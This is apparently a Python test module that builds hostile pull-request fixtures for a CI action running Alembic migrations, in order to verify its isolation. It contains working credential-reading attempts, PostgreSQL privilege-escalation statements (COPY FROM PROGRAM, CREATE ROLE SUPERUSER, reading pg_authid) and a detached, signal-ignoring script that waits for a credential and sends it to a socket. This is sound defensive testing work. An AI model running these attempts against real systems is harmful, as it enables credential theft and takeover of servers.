"""More that a pull request must not be able to do, beside ``hostile.py``: credentials beside the checkout, rights, SQL.

Each attempt is a function that returns what it gained. As root with everything in reach, and as a superuser of the
server, all of them gain something, which proves that each attempt is one.
"""

from __future__ import annotations

from tests.projects import hostile
from tests.projects.builder import CREATE_BOOK, Revision, tree

MORE = '''
import glob, json, os, resource, socket, stat, subprocess, sys, tempfile
from attempts import MARKER, append, can_open, each, holds_marker, others

WORK, HOME, TEMP = "/github/workspace", "/github/home", "/github/runner_temp"


def the_config_of_a_checkout_beside():
    return each([WORK + "/src/.git/config"], holds_marker)


def the_config_of_a_submodule():
    return each([WORK + "/.git/modules/lib/config"], holds_marker)


def the_netrc_of_the_runner():
    return each([HOME + "/.netrc"], holds_marker)


def the_login_of_docker():
    return each([HOME + "/.docker/config.json"], holds_marker)


def the_home_below_the_temporary_folder():
    return each([TEMP + "/_github_home/.netrc"], holds_marker)


def the_credentials_of_a_cloud():
    return each(glob.glob(WORK + "/gha-creds-*.json"), holds_marker)


def the_tokens_of_registries():
    return each([WORK + "/" + name for name in (".npmrc", "pip.conf", ".pypirc")], holds_marker)


def the_names_in_the_temporary_folder():
    return each([TEMP], os.listdir)


def the_event_of_the_job():
    return each(["/github/workflow/event.json"], holds_marker)


def a_second_name_for_a_credential():
    def use(path):
        os.link(path, WORK + "/second")
        try:
            return holds_marker(WORK + "/second")
        finally:
            os.unlink(WORK + "/second")
    return each([WORK + "/.git/config"], use)


def a_link_to_a_credential():
    link = tempfile.mkdtemp() + "/link"
    os.symlink(WORK + "/.git/config", link)
    return each([link], holds_marker)


def a_file_in_the_temporary_folder():
    return each([TEMP + "/planted"], append)


def a_file_in_the_home_of_the_runner():
    return each([HOME + "/.profile"], append)


def the_arguments_of_other_processes():
    return each(["/proc/%s/cmdline" % pid for pid in others()], holds_marker)


def the_maps_of_other_processes():
    return each(["/proc/%s/maps" % pid for pid in others()], lambda path: open(path, "rb").read(1))


def the_folders_of_other_processes():
    return each(["/proc/%s/cwd" % pid for pid in others()], os.readlink)


def the_limits_of_other_processes():
    return each(list(others()), lambda pid: resource.prlimit(int(pid), resource.RLIMIT_CORE))


def the_priority_of_other_processes():
    return each(list(others()), lambda pid: os.setpriority(os.PRIO_PROCESS, int(pid), 19) is None)


def the_program_itself():
    return each(["/opt/alembic-checks/entrypoint.py", "/opt/alembic-checks/action/main.py"], can_open("ab"))


def the_files_of_the_system():
    return each(["/etc/passwd", "/etc/ld.so.conf", "/usr/bin/env.py"], can_open("ab"))


def a_device():
    path = tempfile.mkdtemp() + "/disk"
    return each([path], lambda path: os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(7, 0)) is None)


def another_root():
    return each(["/"], lambda path: os.chroot(path) is None)


def another_owner():
    handle, path = tempfile.mkstemp()
    os.close(handle)
    return each([path], lambda path: os.chown(path, 1, 1) is None)


def other_groups():
    return each(["0"], lambda group: os.setgroups([int(group)]) is None)


def a_raw_socket():
    def use(name):
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        return True
    return each(["ICMP"], use)


STATEMENTS = {
    "a program of the server": "COPY lines FROM PROGRAM 'id'",
    "a file, by COPY": "COPY lines FROM '/etc/passwd'",
    "a file, by a function": "SELECT pg_read_file('/etc/passwd')",
    "a folder, by a function": "SELECT pg_ls_dir('/')",
    "a file as a large object": "SELECT lo_import('/etc/passwd')",
    "a file that the server writes": "COPY (SELECT 1) TO '/tmp/planted'",
    "a setting of the whole server": "ALTER SYSTEM SET archive_command = 'true'",
    "new settings at once": "SELECT pg_reload_conf()",
    "a library": "LOAD 'vector'",
    "a function in C": "CREATE FUNCTION planted(internal) RETURNS internal AS 'vector', 'vector_in' LANGUAGE C",
    "the rights of a superuser": "CREATE ROLE planted SUPERUSER",
    "the passwords of roles": "SELECT rolpassword FROM pg_authid",
    "the log of the server": "SELECT pg_current_logfile(), pg_ls_logdir()",
    "the end of an administrator's session":
        "SELECT pg_cancel_backend(pid) FROM pg_stat_activity JOIN pg_roles r ON r.oid = usesysid"
        " WHERE rolsuper AND pid <> pg_backend_pid()",
}


def by_sql(engine):
    """What each statement gains, in a transaction of its own that is rolled back where it can be."""
    gained = {}
    for name, statement in STATEMENTS.items():
        with engine.connect() as connection:
            try:
                connection = connection.execution_options(isolation_level="AUTOCOMMIT")
                if statement.startswith("COPY lines"):
                    connection.exec_driver_sql("CREATE TEMPORARY TABLE lines (line text)")
                done = connection.exec_driver_sql(statement)
                gained[name] = [str(row)[:80] for row in done.fetchall()] if done.returns_rows else ["done"]
            except Exception as error:
                gained[name] = [] if getattr(error.orig, "pgcode", "") == "42501" else [str(error)]
    return gained


ATTEMPTS = [value for name, value in list(globals().items()) if name.startswith(("the_", "a_", "another_", "other_"))]


def tell(bind=None):
    found = {attempt.__name__: attempt() for attempt in ATTEMPTS}
    if bind is not None:
        found.update(by_sql(bind.engine))
    print("MORE " + json.dumps(found), flush=True)


if __name__ == "__main__":
    tell()
'''
LATE = '''
"""Waits for the moment in which a credential can be read, and sends it away."""
import glob, os, socket, sys, time

MARKER = %(marker)r
for number in range(1, 32):
    try:
        import signal
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    for path in ["/github/workspace/.git/config", *glob.glob("/github/runner_temp/git-credentials-*")]:
        try:
            with open(path, "rb") as file:
                if MARKER.encode() in file.read():
                    with socket.create_connection(("127.0.0.1", %(port)d)) as away:
                        away.sendall(sys.argv[1].encode())
                    os._exit(0)
        except OSError:
            pass
    time.sleep(0.002)
'''
_STARTS_LATE = """
import subprocess
from pathlib import Path
late = str(Path(__file__).resolve().parents[2] / "late.py")
subprocess.Popen(["setsid", "/usr/bin/python3", late, "{who}"], stdin=-3, stdout=-3, stderr=-3)
"""
_BY_SERVER = """
try:
    with op.get_bind().engine.connect() as other:
        other.exec_driver_sql("COPY (SELECT 1) TO PROGRAM 'setsid /usr/bin/python3 /github/workspace/late.py server >/dev/null 2>&1 &'")
except Exception as error:
    print(error)
"""


def project() -> dict[str, str]:
    """Return a project whose migration tries everything of this file, then does its work."""
    upgrade = f"import more_attempts\nmore_attempts.tell(op.get_bind())\n{CREATE_BOOK.strip()}"
    files = {**tree(Revision(id="a1", upgrade=upgrade)), "attempts.py": hostile.attempts(hostile.Targets())}
    return {**files, "more_attempts.py": MORE}


def waiting(port: int) -> dict[str, str]:
    """Return a project that starts programs which outlive it and wait for a credential to be readable."""
    upgrade = _STARTS_LATE.format(who="migration") + _BY_SERVER + CREATE_BOOK.strip()
    files = tree(Revision(id="a1", upgrade=upgrade))
    files["migrations/env.py"] += _STARTS_LATE.format(who="env.py").replace("parents[2]", "parents[1]")
    return {**files, "late.py": LATE % {"marker": hostile.MARKER, "port": port}}
